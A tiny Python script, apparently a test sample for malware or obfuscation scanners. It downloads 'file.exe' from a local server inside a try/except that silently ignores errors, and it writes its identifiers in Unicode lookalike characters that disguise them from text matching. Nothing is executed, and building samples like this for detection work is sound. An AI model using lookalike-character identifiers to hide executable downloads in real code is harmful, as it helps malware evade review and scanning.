import requests


def main():
    try:
        𝘳𝙚𝘀𝗽 = 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get("http://127.0.0.1:8000/file.exe")
    except Exception:
        pass


main()
